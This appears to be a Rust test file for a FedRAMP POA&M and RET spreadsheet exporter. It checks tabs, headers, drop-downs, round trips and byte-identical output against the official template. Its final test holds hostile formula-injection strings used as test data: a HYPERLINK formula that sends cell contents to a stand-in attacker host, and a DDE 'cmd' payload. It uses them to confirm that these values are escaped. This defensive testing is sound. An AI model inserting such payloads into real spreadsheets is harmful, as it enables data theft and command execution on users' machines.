//! The POA&M and RET workbooks, re-read with calamine and compared with the official FedRAMP
//! POA&M template v2.1 in ../shared/data: tab names, the row-5 column headers, the header block,
//! the drop-downs (the template's `dataValidation` elements), data round trips, empty and
//! 10,000-row tabs, and byte-identical output.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::io::{Cursor, Read};

use assay_export::workbook::{
    write_poam_xlsx, write_ret_xlsx, PoamRow, PoamWorkbook, RetRow, RetWorkbook, WorkbookHeader,
};
use assay_export::Error;
use assay_model::testing::{DeviationAnswer, RiskLevel};
use calamine::{open_workbook_from_rs, Data, DataType, Range, Reader, Xlsx};
use chrono::NaiveDate;

/// In the shared sample data (tests reading it start with `require_shared_data!(TEMPLATE)`).
const TEMPLATE: &str = "schemas/fedramp-xlsx-templates/FedRAMP-POAM-Template-v2.1.xlsx";

/// Row 5 of the template, 0-based.
const HEADER_ROW: u32 = 4;

fn template_bytes() -> Vec<u8> {
    let path = assay_testkit::shared(TEMPLATE);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn open(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap()
}

fn range(book: &mut Xlsx<Cursor<Vec<u8>>>, sheet: &str) -> Range<Data> {
    book.worksheet_range(sheet)
        .unwrap_or_else(|e| panic!("sheet {sheet}: {e}"))
}

fn text_at(r: &Range<Data>, row: u32, col: u32) -> String {
    match r.get_value((row, col)) {
        Some(Data::String(s)) => s.clone(),
        Some(Data::Empty) | None => String::new(),
        Some(other) => other.to_string(),
    }
}

fn date_at(r: &Range<Data>, row: u32, col: u32) -> Option<NaiveDate> {
    let v = r.get_value((row, col))?;
    let dt = v.get_datetime()?;
    assert!(dt.is_datetime(), "({row},{col}) is a duration, not a date");
    Some(dt.as_datetime()?.date())
}

/// The non-empty header texts on row 5, left to right (stops at the first gap).
fn headers(r: &Range<Data>) -> Vec<String> {
    (0..)
        .map(|c| text_at(r, HEADER_ROW, c))
        .take_while(|h| !h.is_empty())
        .collect()
}

/// Header text → 0-based column, from row 5.
fn columns(r: &Range<Data>) -> BTreeMap<String, u32> {
    (0u32..).zip(headers(r)).map(|(i, h)| (h, i)).collect()
}

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn header() -> WorkbookHeader {
    WorkbookHeader {
        csp: "Example Cloud, Inc.".into(),
        system_name: "Example Cloud Platform".into(),
        impact_level: "Moderate".into(),
        date: day(2026, 3, 31),
    }
}

fn row(i: usize) -> PoamRow {
    PoamRow {
        poam_id: format!("V-{i:05}"),
        controls: "RA-5, SI-2".into(),
        weakness_name: format!("OpenSSL 3.0.x < 3.0.13 multiple vulnerabilities ({i})"),
        weakness_description: "The version of OpenSSL installed on the remote host is prior to \
            3.0.13. It is therefore affected by multiple vulnerabilities.\nSecond line."
            .into(),
        weakness_detector_source: "Nessus".into(),
        weakness_source_identifier: "190472".into(),
        asset_identifier: "web-01.example.test:443/tcp\nweb-02.example.test:443/tcp".into(),
        point_of_contact: "J. Doe, ISSO".into(),
        resources_required: "None".into(),
        overall_remediation_plan: "Upgrade OpenSSL to 3.0.13 or later.".into(),
        original_detection_date: day(2026, 1, 15),
        scheduled_completion_date: day(2026, 2, 14),
        planned_milestones: "1. Patch in staging 2026-02-01\n2. Patch in production 2026-02-10"
            .into(),
        milestone_changes: String::new(),
        status_date: Some(day(2026, 3, 1)),
        vendor_dependency: i.is_multiple_of(2),
        last_vendor_check_in_date: None,
        vendor_dependent_product_name: "OpenSSL".into(),
        original_risk_rating: RiskLevel::High,
        adjusted_risk_rating: None,
        risk_adjustment: DeviationAnswer::No,
        false_positive: DeviationAnswer::Pending,
        operational_requirement: DeviationAnswer::Yes,
        deviation_rationale: "Mitigated by the WAF.".into(),
        supporting_documents: "DR-12.pdf".into(),
        comments: "RET ID V-001".into(),
        auto_approve: Some(false),
        bod_22_01_tracking: true,
        bod_22_01_due_date: Some(day(2026, 2, 5)),
        cve: "CVE-2024-0727".into(),
        service_name: "Web tier".into(),
    }
}

fn poam(open: usize, closed: usize, configuration: usize) -> PoamWorkbook {
    PoamWorkbook {
        header: header(),
        open: (0..open).map(row).collect(),
        closed: (0..closed).map(row).collect(),
        configuration: (0..configuration).map(row).collect(),
    }
}

fn ret(n: usize) -> RetWorkbook {
    let rows = |n: usize| (0..n).map(|i| RetRow::from(&row(i))).collect::<Vec<_>>();
    RetWorkbook {
        header: header(),
        ret: rows(n),
        corrected: rows(n),
        configuration: rows(n),
        pl2: rows(n),
    }
}

const POAM_TABS: [&str; 3] = [
    "Open POA&M Items",
    "Closed POA&M Items",
    "Configuration Findings",
];

// ---------------------------------------------------------------- POA&M: layout vs template

#[test]
fn poam_tabs_are_the_templates_tabs_in_order() {
    assay_testkit::require_shared_data!(TEMPLATE);
    let template = open(&template_bytes());
    let out = open(&write_poam_xlsx(&poam(1, 1, 1)).unwrap());
    assert_eq!(out.sheet_names(), template.sheet_names());
}

#[test]
fn poam_row_5_headers_equal_the_templates_on_every_tab() {
    assay_testkit::require_shared_data!(TEMPLATE);
    let mut template = open(&template_bytes());
    let mut out = open(&write_poam_xlsx(&poam(2, 2, 2)).unwrap());
    for tab in POAM_TABS {
        let expected = headers(&range(&mut template, tab));
        assert_eq!(expected.len(), 31, "template tab {tab} has columns A..AE");
        assert_eq!(headers(&range(&mut out, tab)), expected, "tab {tab}");
    }
}

#[test]
fn poam_title_and_header_block_labels_equal_the_templates() {
    assay_testkit::require_shared_data!(TEMPLATE);
    let mut template = open(&template_bytes());
    let mut out = open(&write_poam_xlsx(&poam(0, 0, 0)).unwrap());
    for tab in POAM_TABS {
        let t = range(&mut template, tab);
        let o = range(&mut out, tab);
        assert_eq!(text_at(&o, 0, 0), text_at(&t, 0, 0), "{tab} A1 title");
        for col in 0..4 {
            let label = text_at(&t, 1, col);
            assert!(!label.is_empty());
            assert_eq!(text_at(&o, 1, col), label, "{tab} row 2 column {col}");
        }
    }
}

#[test]
fn poam_header_block_values_are_on_row_3_with_d3_a_real_date() {
    let mut out = open(&write_poam_xlsx(&poam(1, 0, 0)).unwrap());
    for tab in POAM_TABS {
        let o = range(&mut out, tab);
        assert_eq!(text_at(&o, 2, 0), "Example Cloud, Inc.");
        assert_eq!(text_at(&o, 2, 1), "Example Cloud Platform");
        assert_eq!(text_at(&o, 2, 2), "Moderate");
        assert_eq!(date_at(&o, 2, 3), Some(day(2026, 3, 31)), "{tab} D3");
    }
}

#[test]
fn record_of_changes_keeps_the_templates_labels_and_history() {
    assay_testkit::require_shared_data!(TEMPLATE);
    let mut template = open(&template_bytes());
    let mut out = open(&write_poam_xlsx(&poam(0, 0, 0)).unwrap());
    let t = range(&mut template, "Record of Changes");
    let o = range(&mut out, "Record of Changes");
    assert_eq!(text_at(&o, 1, 1), text_at(&t, 1, 1));
    for col in 1..=4 {
        assert_eq!(text_at(&o, 2, col), text_at(&t, 2, col), "label B3..E3");
    }
    for row in 3..=4 {
        assert_eq!(date_at(&o, row, 1), date_at(&t, row, 1));
        assert!(date_at(&t, row, 1).is_some());
        assert_eq!(text_at(&o, row, 2), text_at(&t, row, 2));
        assert_eq!(text_at(&o, row, 4), text_at(&t, row, 4));
    }
    assert_eq!(date_at(&o, 5, 1), Some(day(2026, 3, 31)));
    assert!(text_at(&o, 5, 2).contains("Assay"));
}

// ---------------------------------------------------------------- data validation vs template

/// One `dataValidation` element: its attributes and formula1.
#[derive(Debug, Clone)]
struct Validation {
    kind: String,
    operator: String,
    formula1: String,
    sqref: String,
}

fn sheet_xml(bytes: &[u8], sheet_index: usize) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut f = zip
        .by_name(&format!("xl/worksheets/sheet{}.xml", sheet_index + 1))
        .unwrap();
    let mut s = String::new();
    f.read_to_string(&mut s).unwrap();
    s
}

fn validations(xml: &str) -> Vec<Validation> {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(xml);
    let mut out = Vec::new();
    let mut current: Option<Validation> = None;
    let mut in_formula1 = false;
    loop {
        match reader.read_event().unwrap() {
            Event::Start(e) if e.name().as_ref() == b"dataValidation" => {
                let attr = |name: &[u8]| {
                    e.attributes()
                        .flatten()
                        .find(|a| a.key.as_ref() == name)
                        .map(|a| a.unescape_value().unwrap().into_owned())
                        .unwrap_or_default()
                };
                current = Some(Validation {
                    kind: attr(b"type"),
                    // "between" is the default operator when the attribute is absent.
                    operator: Some(attr(b"operator"))
                        .filter(|o| !o.is_empty())
                        .unwrap_or_else(|| "between".into()),
                    formula1: String::new(),
                    sqref: attr(b"sqref"),
                });
            }
            Event::Start(e) if e.name().as_ref() == b"formula1" => in_formula1 = true,
            Event::End(e) if e.name().as_ref() == b"formula1" => in_formula1 = false,
            Event::Text(t) if in_formula1 => {
                if let Some(v) = current.as_mut() {
                    v.formula1.push_str(&t.unescape().unwrap());
                }
            }
            Event::End(e) if e.name().as_ref() == b"dataValidation" => {
                out.extend(current.take());
            }
            Event::Eof => break,
            _ => {}
        }
    }
    out
}

fn column_letters(col: u32) -> String {
    let mut n = col + 1;
    let mut s = Vec::new();
    while n > 0 {
        let r = (n - 1) % 26;
        s.push(b'A' + r as u8);
        n = (n - 1) / 26;
    }
    s.reverse();
    String::from_utf8(s).unwrap()
}

fn column_index(letters: &str) -> u32 {
    letters
        .bytes()
        .fold(0, |acc, b| acc * 26 + u32::from(b - b'A' + 1))
        - 1
}

/// Splits "S1:S4 C3" into (column letters, first row, last row) areas.
fn areas(sqref: &str) -> Vec<(String, u32, String, u32)> {
    let cell = |c: &str| {
        let split = c.find(|ch: char| ch.is_ascii_digit()).unwrap();
        (c[..split].to_owned(), c[split..].parse::<u32>().unwrap())
    };
    sqref
        .split_whitespace()
        .map(|a| {
            let (from, to) = a.split_once(':').unwrap_or((a, a));
            let (c1, r1) = cell(from);
            let (c2, r2) = cell(to);
            (c1, r1, c2, r2)
        })
        .collect()
}

fn covers(v: &Validation, col: &str, row: u32) -> bool {
    areas(&v.sqref).iter().any(|(c1, r1, c2, r2)| {
        (column_index(c1)..=column_index(c2)).contains(&column_index(col))
            && (*r1..=*r2).contains(&row)
    })
}

/// The template's list and date rules on each tab, by the header of the column they sit on (or by
/// cell for the header block), must appear in our workbook on the same header's data cells with
/// the same type, operator and values. The template's one `decimal` rule (Weakness Source
/// Identifier ≠ -9999) is left out on purpose: FedRAMP puts CVE ids and "None" in that column.
#[test]
fn poam_drop_downs_and_date_rules_are_the_templates() {
    assay_testkit::require_shared_data!(TEMPLATE);
    let template = template_bytes();
    let out_bytes = write_poam_xlsx(&poam(3, 3, 3)).unwrap();
    let mut t_book = open(&template);
    let mut o_book = open(&out_bytes);
    let mut checked = 0;
    for (index, tab) in POAM_TABS.iter().enumerate() {
        let t_cols = headers(&range(&mut t_book, tab));
        let o_cols = columns(&range(&mut o_book, tab));
        let ours = validations(&sheet_xml(&out_bytes, index));
        for tv in validations(&sheet_xml(&template, index)) {
            if tv.kind != "list" && tv.kind != "date" {
                assert_eq!(
                    tv.kind, "decimal",
                    "an unexpected rule type in the template"
                );
                continue;
            }
            for (c1, r1, c2, r2) in areas(&tv.sqref) {
                for col in column_index(&c1)..=column_index(&c2) {
                    // Rules on the header block cells (C3, D3) are checked on those cells; rules
                    // over the column-header row stand for the column's data cells.
                    let (target_col, target_row) = if r1 == 3 && r2 == 3 {
                        (column_letters(col), 3)
                    } else if r2 >= 5 || (r1..=r2).contains(&5) {
                        let header = &t_cols[col as usize];
                        let ours_at = o_cols
                            .get(header)
                            .unwrap_or_else(|| panic!("{tab}: no column {header}"));
                        (column_letters(*ours_at), 6)
                    } else {
                        continue;
                    };
                    let found = ours.iter().find(|v| covers(v, &target_col, target_row));
                    let found = found.unwrap_or_else(|| {
                        panic!("{tab}: no rule on {target_col}{target_row} ({tv:?})")
                    });
                    assert_eq!(found.kind, tv.kind, "{tab} {target_col}{target_row}");
                    assert_eq!(
                        found.operator, tv.operator,
                        "{tab} {target_col}{target_row}"
                    );
                    assert_eq!(
                        found.formula1, tv.formula1,
                        "{tab} {target_col}{target_row}"
                    );
                    // Rows the CSP appends keep the drop-down too.
                    if target_row == 6 {
                        assert!(covers(found, &target_col, 1_048_576));
                    }
                    checked += 1;
                }
            }
        }
    }
    // Per tab: K, L, O, Q, S, T, P, U, V, W on data cells plus C3 and D3.
    assert_eq!(checked, 3 * 12);
}

/// The `<pane>` element of a sheet: ySplit, topLeftCell and state.
fn pane(xml: &str) -> Option<(String, String, String)> {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(xml);
    loop {
        match reader.read_event().unwrap() {
            Event::Empty(e) | Event::Start(e) if e.name().as_ref() == b"pane" => {
                let attr = |name: &[u8]| {
                    e.attributes()
                        .flatten()
                        .find(|a| a.key.as_ref() == name)
                        .map(|a| a.unescape_value().unwrap().into_owned())
                        .unwrap_or_default()
                };
                return Some((attr(b"ySplit"), attr(b"topLeftCell"), attr(b"state")));
            }
            Event::Eof => return None,
            _ => {}
        }
    }
}

#[test]
fn every_tab_freezes_the_header_rows_as_the_templates_open_tab_does() {
    assay_testkit::require_shared_data!(TEMPLATE);
    let template = template_bytes();
    let expected = pane(&sheet_xml(&template, 0)).expect("the template freezes its Open tab");
    assert_eq!(expected.2, "frozen");
    let poam_bytes = write_poam_xlsx(&poam(1, 1, 1)).unwrap();
    let ret_bytes = write_ret_xlsx(&ret(1)).unwrap();
    for index in 0..POAM_TABS.len() {
        assert_eq!(pane(&sheet_xml(&poam_bytes, index)), Some(expected.clone()));
    }
    for index in 0..RET_TABS.len() {
        assert_eq!(pane(&sheet_xml(&ret_bytes, index)), Some(expected.clone()));
    }
}

#[test]
fn li_saas_header_is_written_without_the_templates_impact_list() {
    let mut wb = poam(0, 0, 0);
    wb.header.impact_level = "LI-SaaS".into();
    let bytes = write_poam_xlsx(&wb).unwrap();
    let mut book = open(&bytes);
    assert_eq!(text_at(&range(&mut book, POAM_TABS[0]), 2, 2), "LI-SaaS");
    let rules = validations(&sheet_xml(&bytes, 0));
    assert!(!rules.iter().any(|v| covers(v, "C", 3)));
    assert!(rules.iter().any(|v| covers(v, "D", 3)));
}

// ---------------------------------------------------------------- POA&M: data

#[test]
fn poam_data_row_round_trips_by_header_name() {
    let mut wb = poam(2, 1, 0);
    wb.open[1].adjusted_risk_rating = Some(RiskLevel::Moderate);
    wb.open[1].auto_approve = None;
    wb.open[1].last_vendor_check_in_date = Some(day(2026, 3, 2));
    let mut out = open(&write_poam_xlsx(&wb).unwrap());
    let r = range(&mut out, POAM_TABS[0]);
    let col = columns(&r);
    let text = |row: u32, h: &str| text_at(&r, row, col[h]);
    let date = |row: u32, h: &str| date_at(&r, row, col[h]);
    let first = 5;
    assert_eq!(text(first, "POAM ID"), "V-00000");
    assert_eq!(text(first, "Controls"), "RA-5, SI-2");
    assert_eq!(
        text(first, "Weakness Description"),
        wb.open[0].weakness_description
    );
    assert_eq!(text(first, "Asset Identifier"), wb.open[0].asset_identifier);
    assert_eq!(
        text(first, "Planned Milestones"),
        wb.open[0].planned_milestones
    );
    assert_eq!(text(first, "Milestone Changes"), "");
    assert_eq!(
        date(first, "Original Detection Date"),
        Some(day(2026, 1, 15))
    );
    assert_eq!(
        date(first, "Scheduled Completion Date"),
        Some(day(2026, 2, 14))
    );
    assert_eq!(date(first, "Status Date"), Some(day(2026, 3, 1)));
    assert_eq!(date(first, "Last Vendor Check-in Date"), None);
    assert_eq!(text(first, "Last Vendor Check-in Date"), "");
    assert_eq!(text(first, "Vendor Dependency"), "Yes");
    assert_eq!(text(first + 1, "Vendor Dependency"), "No");
    assert_eq!(text(first, "Original Risk Rating"), "High");
    assert_eq!(text(first, "Adjusted Risk Rating"), "N/A");
    assert_eq!(text(first + 1, "Adjusted Risk Rating"), "Moderate");
    assert_eq!(text(first, "Risk Adjustment"), "No");
    assert_eq!(text(first, "False Positive"), "Pending");
    assert_eq!(text(first, "Operational Requirement"), "Yes");
    assert_eq!(text(first, "Auto-Approve"), "No");
    assert_eq!(text(first + 1, "Auto-Approve"), "");
    assert_eq!(
        text(first, "Binding Operational Directive 22-01 tracking"),
        "Yes"
    );
    assert_eq!(
        date(first, "Binding Operational Directive 22-01 Due Date"),
        Some(day(2026, 2, 5))
    );
    assert_eq!(
        date(first + 1, "Last Vendor Check-in Date"),
        Some(day(2026, 3, 2))
    );
    assert_eq!(text(first, "CVE"), "CVE-2024-0727");
    assert_eq!(text(first, "Service Name"), "Web tier");
    // Nothing after the last item.
    assert_eq!(text(first + 2, "POAM ID"), "");
    let closed = range(&mut out, POAM_TABS[1]);
    assert_eq!(text_at(&closed, first, 0), "V-00000");
    assert_eq!(text_at(&closed, first + 1, 0), "");
}

#[test]
fn poam_with_no_items_has_headers_and_no_data() {
    let mut out = open(&write_poam_xlsx(&poam(0, 0, 0)).unwrap());
    for tab in POAM_TABS {
        let r = range(&mut out, tab);
        assert_eq!(headers(&r).len(), 31);
        assert_eq!(r.end().map(|(row, _)| row), Some(HEADER_ROW), "{tab}");
    }
}

#[test]
fn poam_with_10000_items_keeps_every_row() {
    let bytes = write_poam_xlsx(&poam(10_000, 0, 0)).unwrap();
    let mut out = open(&bytes);
    let r = range(&mut out, POAM_TABS[0]);
    assert_eq!(r.end().map(|(row, _)| row), Some(HEADER_ROW + 10_000));
    let ids: Vec<String> = (HEADER_ROW + 1..=HEADER_ROW + 10_000)
        .map(|row| text_at(&r, row, 0))
        .collect();
    let expected: Vec<String> = (0..10_000).map(|i| format!("V-{i:05}")).collect();
    assert_eq!(ids, expected);
    assert_eq!(date_at(&r, HEADER_ROW + 10_000, 10), Some(day(2026, 1, 15)));
}

#[test]
fn poam_bytes_are_identical_for_the_same_input_and_carry_the_header_date() {
    let wb = poam(50, 5, 5);
    let a = write_poam_xlsx(&wb).unwrap();
    let b = write_poam_xlsx(&wb).unwrap();
    assert!(a == b, "two writes of the same POA&M differ");
    let mut zip = zip::ZipArchive::new(Cursor::new(&a)).unwrap();
    let mut core = String::new();
    zip.by_name("docProps/core.xml")
        .unwrap()
        .read_to_string(&mut core)
        .unwrap();
    assert!(core.contains("2026-03-31T00:00:00Z"), "{core}");
    let mut later = wb.clone();
    later.header.date = day(2026, 4, 30);
    assert!(write_poam_xlsx(&later).unwrap() != a);
}

#[test]
fn overlong_text_is_refused_naming_tab_row_and_column() {
    let mut wb = poam(3, 0, 0);
    wb.open[2].weakness_description = "x".repeat(32_768);
    let Err(err) = write_poam_xlsx(&wb) else {
        panic!("a 32,768-character cell was accepted");
    };
    assert!(matches!(err, Error::Validation { .. }));
    let msg = err.to_string();
    assert!(msg.contains("Open POA&M Items row 8"), "{msg}");
    assert!(msg.contains("Weakness Description"), "{msg}");
    // The limit itself fits.
    wb.open[2].weakness_description = "x".repeat(32_767);
    assert!(write_poam_xlsx(&wb).is_ok());
}

#[test]
fn dates_excel_cannot_hold_are_refused() {
    let mut wb = poam(1, 0, 0);
    wb.open[0].original_detection_date = day(1899, 12, 31);
    let Err(err) = write_poam_xlsx(&wb) else {
        panic!("a date before 1900 was accepted");
    };
    let msg = err.to_string();
    assert!(msg.contains("Original Detection Date"), "{msg}");
    assert!(msg.contains("1899-12-31"), "{msg}");
}

// ---------------------------------------------------------------- RET

/// The RET tabs as the domain reference (§6.3) names them.
const RET_TABS: [&str; 4] = [
    "Risk Exposure Table (RET)",
    "Risks Corrected During Testing",
    "Configuration Findings",
    "PL-2 Findings",
];

/// The RET's columns after the ID column, as listed in the domain reference §6.3, in the
/// wording of that list; each must exist verbatim on the POA&M template's row 5.
const RET_COLUMNS_AFTER_ID: [&str; 17] = [
    "Controls",
    "Weakness Name",
    "Weakness Description",
    "Weakness Detector Source",
    "Weakness Source Identifier",
    "Asset Identifier",
    "Original Detection Date",
    "Vendor Dependency",
    "Vendor Dependent Product Name",
    "Original Risk Rating",
    "Adjusted Risk Rating",
    "Risk Adjustment",
    "False Positive",
    "Operational Requirement",
    "Deviation Rationale",
    "Comments",
    "Service Name",
];

#[test]
fn ret_tabs_and_headers_use_the_poam_templates_wording() {
    assay_testkit::require_shared_data!(TEMPLATE);
    let mut template = open(&template_bytes());
    let template_headers = headers(&range(&mut template, POAM_TABS[0]));
    // The RET columns, in the template's order, with the template's exact text.
    let expected: Vec<String> = template_headers
        .iter()
        .filter(|h| RET_COLUMNS_AFTER_ID.contains(&h.as_str()))
        .cloned()
        .collect();
    assert_eq!(
        expected.len(),
        RET_COLUMNS_AFTER_ID.len(),
        "every RET column is in the template"
    );
    let mut out = open(&write_ret_xlsx(&ret(2)).unwrap());
    assert_eq!(out.sheet_names(), RET_TABS);
    let t_block = range(&mut template, POAM_TABS[0]);
    for tab in RET_TABS {
        let r = range(&mut out, tab);
        let got = headers(&r);
        assert_eq!(got[0], "POA&M / RET ID", "{tab}");
        assert_eq!(&got[1..], expected.as_slice(), "{tab}");
        for col in 0..3 {
            assert_eq!(
                text_at(&r, 1, col),
                text_at(&t_block, 1, col),
                "{tab} row 2"
            );
        }
        assert_eq!(text_at(&r, 1, 3), "RET Date");
        assert_eq!(text_at(&r, 2, 0), "Example Cloud, Inc.");
        assert_eq!(date_at(&r, 2, 3), Some(day(2026, 3, 31)));
    }
}

#[test]
fn ret_drop_downs_are_the_poam_templates_for_the_same_headers() {
    assay_testkit::require_shared_data!(TEMPLATE);
    let template = template_bytes();
    let out = write_ret_xlsx(&ret(1)).unwrap();
    let mut t_book = open(&template);
    let mut o_book = open(&out);
    let t_cols = headers(&range(&mut t_book, POAM_TABS[0]));
    let t_rules = validations(&sheet_xml(&template, 0));
    let mut checked = 0;
    for (index, tab) in RET_TABS.iter().enumerate() {
        let ours = validations(&sheet_xml(&out, index));
        for (header, col) in columns(&range(&mut o_book, tab)) {
            let Some(t_col) = t_cols.iter().position(|h| *h == header) else {
                continue;
            };
            let t_letter = column_letters(t_col as u32);
            let Some(tv) = t_rules
                .iter()
                .find(|v| covers(v, &t_letter, 5) && v.kind != "decimal")
            else {
                assert!(
                    !ours.iter().any(|v| covers(v, &column_letters(col), 6)),
                    "{header}"
                );
                continue;
            };
            let ov = ours
                .iter()
                .find(|v| covers(v, &column_letters(col), 6))
                .unwrap_or_else(|| panic!("{tab}: no rule on {header}"));
            assert_eq!(
                (&ov.kind, &ov.operator, &ov.formula1),
                (&tv.kind, &tv.operator, &tv.formula1)
            );
            checked += 1;
        }
    }
    // Original Detection Date, Vendor Dependency, both ratings, RA, FP, OR on each tab.
    assert_eq!(checked, 4 * 7);
}

#[test]
fn ret_data_row_round_trips_and_empty_and_large_tabs_work() {
    let mut wb = ret(0);
    let mut item = RetRow::from(&row(7));
    item.adjusted_risk_rating = Some(RiskLevel::Low);
    wb.corrected.push(item.clone());
    wb.pl2 = (0..10_000).map(|i| RetRow::from(&row(i))).collect();
    let bytes = write_ret_xlsx(&wb).unwrap();
    assert!(
        bytes == write_ret_xlsx(&wb).unwrap(),
        "two writes of the same RET differ"
    );
    let mut out = open(&bytes);
    let empty = range(&mut out, RET_TABS[0]);
    assert_eq!(empty.end().map(|(r, _)| r), Some(HEADER_ROW));
    let r = range(&mut out, RET_TABS[1]);
    let col = columns(&r);
    let text = |h: &str| text_at(&r, 5, col[h]);
    assert_eq!(text("POA&M / RET ID"), "V-00007");
    assert_eq!(text("Vendor Dependency"), "No");
    assert_eq!(text("Original Risk Rating"), "High");
    assert_eq!(text("Adjusted Risk Rating"), "Low");
    assert_eq!(text("False Positive"), "Pending");
    assert_eq!(text("Asset Identifier"), item.asset_identifier);
    assert_eq!(
        date_at(&r, 5, col["Original Detection Date"]),
        Some(day(2026, 1, 15))
    );
    let big = range(&mut out, RET_TABS[3]);
    assert_eq!(big.end().map(|(r, _)| r), Some(HEADER_ROW + 10_000));
    assert_eq!(text_at(&big, HEADER_ROW + 10_000, 0), "V-09999");
}

// ---------------------------------------------------------------- formula injection

/// The `s` (style index) attribute of cell `cell` (e.g. "C6") in a sheet's XML.
fn cell_style(xml: &str, cell: &str) -> Option<usize> {
    let start = xml.find(&format!("<c r=\"{cell}\""))?;
    let tag = &xml[start..start + xml[start..].find('>')?];
    let s = tag.split(" s=\"").nth(1)?;
    s[..s.find('"')?].parse().ok()
}

/// Whether the `index`-th `<xf>` of `cellXfs` in styles.xml carries Excel's quote prefix.
fn style_has_quote_prefix(bytes: &[u8], index: usize) -> bool {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut styles = String::new();
    zip.by_name("xl/styles.xml")
        .unwrap()
        .read_to_string(&mut styles)
        .unwrap();
    let xfs = &styles[styles.find("<cellXfs").unwrap()..styles.find("</cellXfs>").unwrap()];
    let xf = xfs.split("<xf ").nth(index + 1).unwrap();
    xf[..xf.find('>').unwrap()].contains("quotePrefix=\"1\"")
}

#[test]
fn text_a_spreadsheet_would_run_is_kept_as_typed_and_quote_prefixed() {
    let hostile = [
        "=HYPERLINK(\"http://attacker.test/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-1+2",
        "@SUM(1,2)",
        "\t=1+1",
    ];
    let mut wb = poam(hostile.len(), 0, 0);
    for (row, text) in wb.open.iter_mut().zip(hostile) {
        row.weakness_name = text.to_owned();
    }
    wb.header.csp = "=1+1".into();
    let bytes = write_poam_xlsx(&wb).unwrap();
    let mut book = open(&bytes);
    let r = range(&mut book, POAM_TABS[0]);
    let col = columns(&r)["Weakness Name"];
    let xml = sheet_xml(&bytes, 0);
    for (i, text) in hostile.iter().enumerate() {
        let row = 5 + i as u32;
        assert_eq!(text_at(&r, row, col), *text, "shown exactly as typed");
        let cell = format!("{}{}", column_letters(col), row + 1);
        let style = cell_style(&xml, &cell).unwrap_or_else(|| panic!("{cell} has no style"));
        assert!(style_has_quote_prefix(&bytes, style), "{cell}: {text:?}");
    }
    // An ordinary cell keeps the column's format, without the prefix.
    let plain = format!("{}6", column_letters(columns(&r)["POAM ID"]));
    assert!(cell_style(&xml, &plain).is_none_or(|s| !style_has_quote_prefix(&bytes, s)));
    assert_eq!(text_at(&r, 2, 0), "=1+1");
    let csp_style = cell_style(&xml, "A3").unwrap();
    assert!(style_has_quote_prefix(&bytes, csp_style));
}
